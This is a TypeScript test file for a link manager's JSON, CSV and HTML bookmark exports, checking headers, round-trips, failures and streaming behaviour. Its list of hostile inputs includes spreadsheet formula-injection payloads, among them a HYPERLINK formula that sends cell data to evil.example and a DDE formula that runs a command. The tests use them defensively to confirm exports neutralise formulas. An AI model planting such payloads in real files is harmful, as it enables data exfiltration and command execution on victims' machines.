import { randomUUID } from 'node:crypto';
import { connect } from 'node:net';

import papaparse from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { FastifyInstance } from 'fastify';
import * as z from 'zod/mini';

import { linkFieldsSchema, linkFileSchema } from '#contract/links.ts';
import { unguardCell } from '#core/link-files/csv.ts';
import { readLinkText } from '#core/link-files/read-text.ts';
import { fieldsOf } from '#core/links/link.ts';
import { testLink } from '#core/links/test-link.ts';
import type { LinkStore } from '#server/links/link-store.ts';
import { openTestApp } from '#server/test-app.ts';
import { problemOf } from '#server/test-problem.ts';

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2-2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  "'=1",
  "'",
  'a,b;c\td',
  'line\nbreak\r\nand "quotes"',
  '"',
  '\ufeffmark',
  'Ünïcödé 🥾 靴 \u2028 \u202e',
];

let app: FastifyInstance;
let links: LinkStore;
beforeAll(async () => {
  ({ app, links } = await openTestApp());
  await links.importMany(
    'shared',
    hostile.map((text) => ({ id: randomUUID(), url: `x${text}`, description: text })),
  );
  await links.importMany('shared', [
    { id: randomUUID(), url: '=1+1', description: '', createdAt: '2020-01-02T03:04:05.006Z' },
  ]);
});
afterAll(() => app.close());

async function listed() {
  const all = [];
  for await (const batch of links.all('shared')) all.push(...batch);
  return all;
}

const day = /^attachment; filename="linkweft-links-\d{4}-\d\d-\d\d\.(?:json|csv|html)"$/;

test('the file of all links matches the contract, newest first', async () => {
  const { headers, body } = await app.inject('/api/links/export.json');
  expect(headers).toMatchObject({
    'content-type': 'application/json; charset=utf-8',
    'content-disposition': expect.stringMatching(day),
    'cache-control': 'no-store',
  });
  expect(linkFileSchema.parse(JSON.parse(body)).links).toEqual(await listed());
});

test('the table opens as UTF-8, starts no formula, and keeps every text', async () => {
  const { headers, rawPayload } = await app.inject('/api/links/export.csv');
  expect(headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(day),
  });
  expect([...rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = rawPayload.subarray(3).toString();
  expect(text).toMatch(
    /^"id","url","description","createdAt","updatedAt","title","anchor","tags"\r\n.*\r\n$/s,
  );
  const { data, errors } = papaparse.parse<string[]>(text, { skipEmptyLines: true, newline: '\r\n' });
  expect(errors).toEqual([]);
  const [, ...rows] = data;
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const read = rows.map((row) => row.slice(0, 5).map(unguardCell));
  expect(read).toEqual(
    (await listed()).map((link) => [link.id, link.url, link.description, link.createdAt, link.updatedAt]),
  );
});

test('the bookmarks have each link with its tags, and are sent as a file', async () => {
  const { headers, body } = await app.inject('/api/links/export.html');
  expect(headers).toMatchObject({
    'content-type': 'text/html; charset=utf-8',
    'content-disposition': expect.stringMatching(day),
    'cache-control': 'no-store',
  });
  const { found } = z
    .object({ found: z.object({ links: z.array(linkFieldsSchema) }) })
    .parse(readLinkText({ text: body, name: 'links.html' }));
  expect(found.links).toEqual((await listed()).map(fieldsOf));
  expect(body).toContain('ADD_DATE="1577934245"');
});

test('an empty workspace gives complete and empty files', async () => {
  const empty = await openTestApp({ workspace: 'own' });
  expect(linkFileSchema.parse((await empty.app.inject('/api/links/export.json')).json()).links).toEqual([]);
  expect((await empty.app.inject('/api/links/export.csv')).body).toBe(
    '\ufeff"id","url","description","createdAt","updatedAt","title","anchor","tags"\r\n',
  );
  await empty.app.close();
});

test('links that cannot be read cause a problem and not a file', async () => {
  const broken = await openTestApp();
  await broken.database.close();
  for (const ending of ['json', 'csv', 'html'])
    expect(await problemOf(broken.app.inject(`/api/links/export.${ending}`))).toContain('storage-failed');
  await broken.app.close();
});

test('a reader who does not read stops the file, and one who leaves ends it', async () => {
  const { app: slow, links: source } = await openTestApp();
  let batches = 0;
  let hasEnded = false;
  source.all = async function* endless() {
    try {
      const link = testLink({ description: 'x'.repeat(2000) });
      for (;;) {
        await new Promise((resolve) => setImmediate(resolve));
        batches += 1;
        yield Array.from({ length: 100 }, () => link);
      }
    } finally {
      hasEnded = true;
    }
  };
  const { port } = new URL(await slow.listen({ host: '127.0.0.1', port: 0 }));
  const socket = connect(Number(port), '127.0.0.1');
  socket.pause();
  socket.write('GET /api/links/export.csv HTTP/1.1\r\nhost: localhost\r\n\r\n');
  const isHeld = async () => {
    const before = batches;
    await new Promise((resolve) => setTimeout(resolve, 200));
    return batches > 0 && batches === before;
  };
  await expect.poll(isHeld).toBe(true);
  socket.destroy();
  await expect.poll(() => hasEnded).toBe(true);
  await slow.close();
});

/** Returns how an answer ends for a raw socket. Calls `onBegun` at its first bytes. */
function endOf(port: string, head: string, onBegun: () => void): Promise<string> {
  return new Promise((resolve) => {
    let text = '';
    const socket = connect(Number(port), '127.0.0.1', () =>
      socket.write(`${head}\r\nhost: localhost\r\n\r\n`),
    );
    socket.on('data', (data) => (text += data.toString('latin1')));
    socket.once('data', onBegun);
    socket.on('error', ({ message }) => resolve(message));
    socket.on('end', () => resolve(text.endsWith('\r\n0\r\n\r\n') ? 'whole' : 'ended'));
  });
}

test('a file that breaks off does not look complete, also if only the end of the connection ends it', async () => {
  const { app: breaking, links: source } = await openTestApp();
  const all = source.all.bind(source);
  await source.create('shared', { url: 'https://a.example/', description: '' });
  let fail = () => {};
  source.all = async function* broken(workspace) {
    const begun = new Promise<void>((resolve) => (fail = resolve));
    yield* all(workspace);
    await begun;
    throw new Error('the database went away');
  };
  const { port } = new URL(await breaking.listen({ host: '127.0.0.1', port: 0 }));
  for (const ending of ['csv', 'json']) {
    const plain = `GET /api/links/export.${ending}`;
    for (const head of [
      `${plain} HTTP/1.1`,
      `${plain} HTTP/1.0`,
      `${plain} HTTP/1.0\r\naccept-encoding: gzip`,
    ])
      expect(await endOf(port, head, () => fail())).toContain('ECONNRESET');
  }
  await breaking.close();
});
